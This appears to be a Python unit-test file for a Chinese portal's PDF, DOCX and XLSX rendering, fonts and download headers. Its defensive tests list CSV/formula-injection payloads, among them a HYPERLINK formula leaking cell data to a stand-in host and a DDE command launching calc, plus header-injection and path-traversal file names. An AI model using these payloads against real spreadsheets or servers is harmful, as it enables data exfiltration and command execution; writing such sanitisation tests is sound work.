"""Unit tests for portal.documents.render (pure functions, no app needed)."""

from __future__ import annotations

import datetime as dt
import io
import re
import shutil
import subprocess
import sys
import time
import zipfile
from pathlib import Path
from urllib.parse import unquote

import pytest

try:
    import portal.documents.render  # noqa: F401
except ModuleNotFoundError:  # running the bare `pytest` script without the package installed
    sys.path.insert(0, str(Path(__file__).resolve().parents[2]))

from portal.documents import render as R
from portal.documents.render import (
    DocumentSpec,
    SheetSpec,
    TableSpec,
    chinese_date,
    content_disposition,
    display_width,
    find_cjk_font,
    formula_safe,
    render_docx,
    render_pdf,
    write_xlsx,
)

BODY_1 = "根据《全国学联驻会执行主席工作办法》，经各地学联推荐、资格审查，现将拟任人选予以公示。"
BODY_2 = "公示期不少于5个工作日，公示期间如有异议，请以书面形式向全国学联秘书处反映。"


def notice(**overrides) -> DocumentSpec:
    kw = dict(
        title="全国学联驻会执行主席拟任人选公示",
        doc_number="学联驻〔2026〕12号",
        addressee="XX大学党委：",
        paragraphs=[BODY_1, BODY_2],
        signature="全国学联秘书处",
        date=dt.date(2026, 11, 26),
        footer_note="（联系人：李老师，电话：010-12345678）",
    )
    kw.update(overrides)
    return DocumentSpec(**kw)


def _font_or_skip():
    try:
        return find_cjk_font()
    except RuntimeError as exc:  # pragma: no cover - environment dependent
        pytest.skip(f"no CJK font: {exc}")


needs_pdftotext = pytest.mark.skipif(shutil.which("pdftotext") is None,
                                     reason="poppler-utils (pdftotext) not installed")


def pdf_pages(pdf: bytes, tmp_path: Path) -> list[str]:
    """Text per page, whitespace removed (CJK wrapping can split any phrase)."""
    path = tmp_path / "doc.pdf"
    path.write_bytes(pdf)
    out = subprocess.run(["pdftotext", "-layout", "-enc", "UTF-8", str(path), "-"],
                         check=True, capture_output=True).stdout.decode("utf-8")
    pages = out.split("\f")
    if pages and not pages[-1].strip():
        pages.pop()
    return [re.sub(r"\s+", "", p) for p in pages]


# ---------------------------------------------------------------- helpers


def test_chinese_date_and_display_width():
    assert chinese_date(dt.date(2026, 11, 26)) == "2026年11月26日"
    assert chinese_date(dt.date(2026, 1, 5)) == "2026年1月5日"
    assert display_width("学联ab") == 6
    assert display_width("（，）") == 6


# ---------------------------------------------------------------- fonts


def test_find_cjk_font_default_is_wqy():
    font = _font_or_skip()
    assert Path(font.path).is_file()
    if Path("/usr/share/fonts/truetype/wqy/wqy-microhei.ttc").is_file():
        assert font.path.endswith("wqy-microhei.ttc") and font.subfont_index == 0


def test_find_cjk_font_env_override(monkeypatch):
    font = _font_or_skip()
    monkeypatch.setenv("PORTAL_CJK_FONT", f"{font.path}#{font.subfont_index}")
    assert find_cjk_font() == font
    monkeypatch.setenv("PORTAL_CJK_FONT", "/nonexistent/font.ttf")
    with pytest.raises(RuntimeError, match="fonts-wqy-microhei"):
        find_cjk_font()


def test_find_cjk_font_missing_names_debian_package(monkeypatch):
    monkeypatch.delenv("PORTAL_CJK_FONT", raising=False)
    monkeypatch.setattr(R.fonts, "KNOWN_CJK_FONTS", [R.CJKFont("/nonexistent/a.ttc", 0)])
    with pytest.raises(RuntimeError) as exc:
        find_cjk_font()
    assert "fonts-wqy-microhei" in str(exc.value)
    assert "PORTAL_CJK_FONT" in str(exc.value)


# ---------------------------------------------------------------- PDF


@needs_pdftotext
def test_pdf_contains_chinese_text(tmp_path):
    _font_or_skip()
    calls = []
    pdf = render_pdf(notice(), progress=lambda f, m: calls.append((f, m)))
    assert pdf.startswith(b"%PDF")
    pages = pdf_pages(pdf, tmp_path)
    assert len(pages) == 1
    text = pages[0]
    assert "全国学联驻会执行主席" in text
    assert "全国学联驻会执行主席拟任人选公示" in text
    assert "公示期不少于5个工作日" in text
    assert "XX大学党委：" in text
    assert "学联驻〔2026〕12号" in text
    assert "全国学联秘书处" in text
    assert "2026年11月26日" in text
    assert "联系人：李老师" in text
    assert "第1页" in text
    # the font is embedded, not referenced
    assert b"FontFile2" in pdf
    # progress: monotonic fractions in [0, 1], finishing at 1.0
    fractions = [f for f, _ in calls]
    assert fractions == sorted(fractions)
    assert fractions[0] == 0.0 and fractions[-1] == 1.0
    assert all(isinstance(m, str) and m for _, m in calls)


@needs_pdftotext
def test_pdf_escapes_markup_and_wraps_long_lines(tmp_path):
    _font_or_skip()
    long_para = "各高校<团委>&学生会" + "务必按时报送材料并确保信息真实准确" * 12
    pdf = render_pdf(notice(paragraphs=[long_para, "第一行\n第二行"]))
    text = pdf_pages(pdf, tmp_path)[0]
    assert "各高校<团委>&学生会" in text
    assert text.count("务必按时报送材料并确保信息真实准确") == 12
    assert "第一行第二行" in text


@needs_pdftotext
def test_pdf_long_table_spans_pages_with_page_numbers(tmp_path):
    _font_or_skip()
    rows = [[i, f"学生{i:03d}", "清华大学" if i % 2 else "中国人民大学",
             "计算机科学与技术（人工智能与数据科学方向）", "拟任"] for i in range(1, 121)]
    spec = notice(tables=[TableSpec(headers=["序号", "姓名", "学校", "专业", "备注"],
                                    rows=rows, caption="拟任人选名单")])
    pdf = render_pdf(spec)
    pages = pdf_pages(pdf, tmp_path)
    assert len(pages) >= 3
    for n, page in enumerate(pages, start=1):
        assert f"第{n}页" in page
    # header row repeated on every page the table continues onto
    assert "序号姓名学校专业备注" in pages[1]
    joined = "".join(pages)
    assert "学生001" in joined and "学生120" in joined
    # the long major wraps inside its cell but is all there
    assert joined.count("计算机科学与技术（人工智能与数据科学方向）") == 120
    # signature never stranded alone: last paragraph travels with it
    assert "全国学联秘书处" in pages[-1] and "2026年11月26日" in pages[-1]


@needs_pdftotext
def test_pdf_table_position(tmp_path):
    _font_or_skip()
    spec = notice(tables=[TableSpec(["项目", "内容"], [["时间", "12月1日"]], position=1)])
    text = pdf_pages(render_pdf(spec), tmp_path)[0]
    assert text.index("经各地学联推荐") < text.index("项目内容") < text.index("公示期不少于")


# ---------------------------------------------------------------- DOCX


def _east_asia(run) -> str | None:
    from docx.oxml.ns import qn
    rpr = run._r.rPr
    rfonts = rpr.rFonts if rpr is not None else None
    return rfonts.get(qn("w:eastAsia")) if rfonts is not None else None


def test_docx_content_and_fonts():
    from docx import Document
    from docx.oxml.ns import qn
    from docx.shared import Mm

    calls = []
    data = render_docx(notice(tables=[TableSpec(["姓名", "学校"], [["张三", "北京大学"]],
                                                position=1)]),
                       progress=lambda f, m: calls.append(f))
    assert zipfile.is_zipfile(io.BytesIO(data))
    doc = Document(io.BytesIO(data))
    texts = [p.text for p in doc.paragraphs]
    assert texts[0] == "全国学联驻会执行主席拟任人选公示"
    for expected in ("学联驻〔2026〕12号", "XX大学党委：", BODY_1, BODY_2, "全国学联秘书处",
                     "2026年11月26日", "（联系人：李老师，电话：010-12345678）"):
        assert expected in texts

    body = next(p for p in doc.paragraphs if p.text == BODY_2)
    assert _east_asia(body.runs[0]) == R.DOCX_FONTS["body"] == "仿宋"
    assert body.paragraph_format.first_line_indent.pt == pytest.approx(32)
    title = doc.paragraphs[0]
    assert _east_asia(title.runs[0]) == R.DOCX_FONTS["title"]
    assert title.runs[0].bold is True
    assert title.alignment == 1  # CENTER
    normal_rfonts = doc.styles["Normal"].element.rPr.rFonts
    assert normal_rfonts.get(qn("w:eastAsia")) == "仿宋"

    date_p = next(p for p in doc.paragraphs if p.text == "2026年11月26日")
    assert date_p.alignment == 2  # RIGHT

    sec = doc.sections[0]
    assert abs(sec.page_width - Mm(210)) < Mm(0.5) and abs(sec.page_height - Mm(297)) < Mm(0.5)
    assert abs(sec.top_margin - Mm(37)) < Mm(0.5) and abs(sec.left_margin - Mm(28)) < Mm(0.5)

    (table,) = doc.tables
    assert [c.text for c in table.rows[0].cells] == ["姓名", "学校"]
    assert [c.text for c in table.rows[1].cells] == ["张三", "北京大学"]
    assert table.rows[0]._tr.trPr.find(qn("w:tblHeader")) is not None
    assert table.rows[0].cells[0].paragraphs[0].runs[0].bold is True
    # table placed after the first paragraph
    body_children = [el.tag.split("}")[1] for el in doc.element.body]
    tbl_idx = body_children.index("tbl")
    paras_before = [p for p in doc.paragraphs if p._p in list(doc.element.body)[:tbl_idx]]
    assert BODY_1 in [p.text for p in paras_before] and BODY_2 not in [p.text for p in paras_before]

    footer_xml = sec.footer._element.xml
    assert "PAGE" in footer_xml and "第 " in footer_xml
    assert calls[0] == 0.0 and calls[-1] == 1.0 and calls == sorted(calls)


def test_docx_strips_xml_illegal_characters():
    from docx import Document
    data = render_docx(notice(paragraphs=["控制\x00字符\x07测试"]))
    assert "控制字符测试" in [p.text for p in Document(io.BytesIO(data)).paragraphs]


# ---------------------------------------------------------------- XLSX

DANGEROUS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "+1",
    "-1+2",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


def _load(data: bytes):
    from openpyxl import load_workbook
    return load_workbook(io.BytesIO(data))


@pytest.mark.parametrize("value", DANGEROUS)
def test_formula_safe(value):
    assert formula_safe(value) == "'" + value


def test_formula_safe_leaves_harmless_values():
    for v in ("张三", "1+1", " =1", "a=b", "", -5, 3.5, None, dt.date(2026, 1, 1)):
        assert formula_safe(v) == v


@pytest.mark.parametrize("rows_count", [3, R.WIDTH_SAMPLE_ROWS + 5])
def test_xlsx_is_formula_safe(rows_count):
    rows = [[v, -5, -2.5, "正常文本"] for v in DANGEROUS]
    rows += [["填充", i, 0.0, "x"] for i in range(rows_count)]
    data = write_xlsx([SheetSpec("名单", ["值", "整数", "小数", "备注"], rows)])
    ws = _load(data)["名单"]
    for i, v in enumerate(DANGEROUS, start=2):
        cell = ws.cell(row=i, column=1)
        assert cell.data_type != "f", v
        assert cell.data_type == "s"
        assert cell.value == "'" + v
        neg = ws.cell(row=i, column=2)
        assert neg.value == -5 and isinstance(neg.value, int) and neg.data_type == "n"
        assert ws.cell(row=i, column=3).value == -2.5
    # nothing anywhere in the sheet is a formula
    assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)
    # and the raw XML contains no <f> element
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheet_xml = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml


def test_xlsx_header_dates_widths_and_freeze():
    from openpyxl.styles.numbers import is_date_format

    rows = [["张三", dt.date(2026, 11, 26), dt.datetime(2026, 11, 26, 9, 30), 1],
            ["李四", None, None, 2]]
    data = write_xlsx([SheetSpec("公示名单", ["姓名", "提交日期", "提交时间", "序号"], rows),
                       SheetSpec("公示名单", ["a"], [[1]])])
    wb = _load(data)
    assert wb.sheetnames == ["公示名单", "公示名单 (2)"]
    ws = wb["公示名单"]
    assert [c.value for c in ws[1]] == ["姓名", "提交日期", "提交时间", "序号"]
    assert all(c.font.bold for c in ws[1])
    assert ws.freeze_panes == "A2"
    d = ws["B2"]
    assert d.is_date and d.value.date() == dt.date(2026, 11, 26)
    assert is_date_format(d.number_format) and d.number_format == R.DATE_FORMAT
    assert ws["C2"].value == dt.datetime(2026, 11, 26, 9, 30)
    assert ws["C2"].number_format == R.DATETIME_FORMAT
    assert ws["B3"].value is None
    # CJK header "提交日期" (4 chars = 8 units) wider than ASCII minimum
    assert ws.column_dimensions["B"].width >= 10
    assert ws.column_dimensions["A"].width >= 6


def test_xlsx_cjk_width_counts_double():
    data = write_xlsx([SheetSpec("s", ["x", "y"], [["中" * 20, "a" * 20]])])
    ws = _load(data)["s"]
    assert ws.column_dimensions["A"].width > ws.column_dimensions["B"].width
    assert ws.column_dimensions["A"].width == pytest.approx(42)


def test_xlsx_big_exports_stream_while_their_rows_are_generated():
    """The sheet is compressed into the package as its rows come: by the 20,000th row of a
    generator, most of what came before is already in the target file."""
    from portal.core.xlsx import Sheet, write_workbook

    target = io.BytesIO()
    seen_at = {}

    def rows():
        for i in range(30000):
            if i in (1000, 20000):
                seen_at[i] = target.tell()
            yield [f"=x{i}", dt.date(2026, 1, 1), i, "学生" * 5]

    write_workbook(target, [Sheet("big", rows(), headers=["姓名", "日期", "序号", "备注"])])
    assert seen_at[20000] > seen_at[1000] + 100_000
    ws = _load(target.getvalue())["big"]
    assert ws.max_row == 30001
    assert ws.freeze_panes == "A2"
    assert ws["A1"].font.bold and ws["A1"].fill.fgColor.rgb == "FFE6E6E6"
    assert ws["A30001"].value == "'=x29999" and ws["A30001"].data_type == "s"
    assert ws["B2"].is_date and ws["B2"].value.date() == dt.date(2026, 1, 1)
    assert ws["C30001"].value == 29999 and ws.auto_filter.ref == "A1:D30001"


def test_xlsx_writer_cells_read_back_as_written():
    from decimal import Decimal

    from portal.core.xlsx import MONEY, Sheet, write_workbook

    aware = dt.datetime(2026, 3, 1, 0, 30, tzinfo=dt.timezone.utc)  # 08:30 in Beijing
    target = io.BytesIO()
    write_workbook(target, [Sheet("值", [[True, Decimal("1234.50"), 2.25, aware, float("nan"), "<&>\"'", None, "x\ud800y"]],
                                  kinds={1: MONEY}),
                            Sheet("值", [], headers=["空"])])
    wb = _load(target.getvalue())
    assert wb.sheetnames == ["值", "值 (2)"]
    ws = wb["值"]
    row = [c.value for c in ws[1]]
    assert row[0] is True and row[1] == 1234.5 and ws["B1"].number_format == "0.00" and row[2] == 2.25
    assert row[3] == dt.datetime(2026, 3, 1, 8, 30) and ws["D1"].number_format == R.DATETIME_FORMAT
    assert row[4] == "nan" and row[5] == "<&>\"'" and row[6] is None and row[7] == "xy"  # a lone surrogate dropped
    assert ws.freeze_panes is None  # no header row: nothing frozen
    assert wb["值 (2)"].max_row == 1 and wb["值 (2)"]["A1"].value == "空"


def test_xlsx_sheet_title_and_illegal_chars():
    data = write_xlsx([SheetSpec("a/b:c*?[x]" + "长" * 40, ["h"], [["x\x01y", "\x01=1"]])])
    wb = _load(data)
    ws = wb.worksheets[0]
    assert len(ws.title) <= 31 and not set("/:*?[]") & set(ws.title)
    assert ws["A2"].value == "xy"
    # control char stripped *before* the formula check
    assert ws["B2"].value == "'=1" and ws["B2"].data_type == "s"


# ---------------------------------------------------------------- Content-Disposition


def _filename_star(header: str) -> str:
    m = re.search(r"filename\*=UTF-8''([^;]+)", header)
    assert m, header
    return unquote(m.group(1), encoding="utf-8")


def test_content_disposition_chinese():
    h = content_disposition("2026年公示名单.pdf")
    assert h == ("attachment; filename=\"2026.pdf\"; filename*=UTF-8''"
                 "2026%E5%B9%B4%E5%85%AC%E7%A4%BA%E5%90%8D%E5%8D%95.pdf")
    assert _filename_star(h) == "2026年公示名单.pdf"
    h.encode("latin-1")  # header values must be ISO-8859-1 safe


def test_content_disposition_all_cjk_and_inline():
    h = content_disposition("公示名单.xlsx", "inline")
    assert h.startswith('inline; filename="download.xlsx"; ')
    assert _filename_star(h) == "公示名单.xlsx"
    h = content_disposition("北京大学 推荐表（第2批）.docx")
    fallback = re.search(r'filename="([^"]*)"', h).group(1)
    assert fallback.endswith(".docx") and fallback.isascii()
    assert not fallback.startswith(("_", " ")) and "__" not in fallback
    assert _filename_star(h) == "北京大学 推荐表（第2批）.docx"


def test_content_disposition_ascii_only():
    assert content_disposition("report-2026.csv") == 'attachment; filename="report-2026.csv"'
    h = content_disposition("Résumé.pdf")
    assert 'filename="Resume.pdf"' in h and _filename_star(h) == "Résumé.pdf"


def test_content_disposition_strips_injection():
    h = content_disposition('a"b\\c\r\nSet-Cookie: x=1;.pdf')
    assert "\r" not in h and "\n" not in h
    fallback = re.search(r'filename="([^"]*)"', h).group(1)
    assert '"' not in fallback and "\\" not in fallback and ";" not in fallback
    assert h.count('"') == 2
    assert _filename_star(h) == "abcSet-Cookie: x=1;.pdf"
    assert "/" not in content_disposition("../../etc/passwd")
    assert content_disposition("") == 'attachment; filename="download"'
    with pytest.raises(ValueError):
        content_disposition("x.pdf", "form-data")


# ---------------------------------------------------------------- timing (informational)


def test_render_timing_note(capsys, tmp_path):
    """Not asserted: prints render times (font already loaded by earlier tests;
    the very first PDF in a process also parses the font, ~0.1 s)."""
    _font_or_skip()
    t0 = time.perf_counter()
    pdf = render_pdf(notice())
    t_pdf = time.perf_counter() - t0

    paragraphs = [f"（{i}）" + BODY_1 + BODY_2 for i in range(1, 9)]
    rows = [[i, f"学生{i}", "北京大学", "哲学"] for i in range(1, 21)]
    spec = notice(paragraphs=paragraphs,
                  tables=[TableSpec(["序号", "姓名", "学校", "专业"], rows)])
    t0 = time.perf_counter()
    docx_bytes = render_docx(spec)
    t_docx = time.perf_counter() - t0
    t0 = time.perf_counter()
    pdf3 = render_pdf(spec)
    t_pdf3 = time.perf_counter() - t0
    pages = len(pdf_pages(pdf3, tmp_path)) if shutil.which("pdftotext") else "?"
    with capsys.disabled():
        print(f"\n[timing] 1-page notice PDF: {t_pdf * 1000:.1f} ms ({len(pdf)} bytes); "
              f"~3-page DOCX: {t_docx * 1000:.1f} ms ({len(docx_bytes)} bytes); "
              f"same content as PDF: {t_pdf3 * 1000:.1f} ms ({pages} pages, {len(pdf3)} bytes)")


def test_spec_from_docx_reads_a_rendered_document_back_part_by_part():
    """The PDF of a templated document is made from its rendered DOCX: every part comes back."""
    from portal.documents.render import spec_from_docx

    spec = DocumentSpec(title="关于推荐人选的函", doc_number="学联驻〔2026〕12号", addressee="XX大学党委：",
                        paragraphs=[BODY_1, BODY_2],
                        tables=[TableSpec(["姓名", "学校"], [["王某", "示例大学"]], position=1, caption="名单")],
                        signature="全国学联秘书处", date=dt.date(2026, 12, 1),
                        footer_note="联系人：李老师\n联系电话：010-12345678")
    back = spec_from_docx(render_docx(spec))
    assert (back.title, back.doc_number, back.addressee, back.paragraphs) == (
        spec.title, spec.doc_number, spec.addressee, spec.paragraphs)
    assert (back.signature, back.date, back.footer_note) == (spec.signature, spec.date, spec.footer_note)
    (t,) = back.tables
    assert (t.headers, t.rows, t.position, t.caption) == (["姓名", "学校"], [["王某", "示例大学"]], 1, "名单")
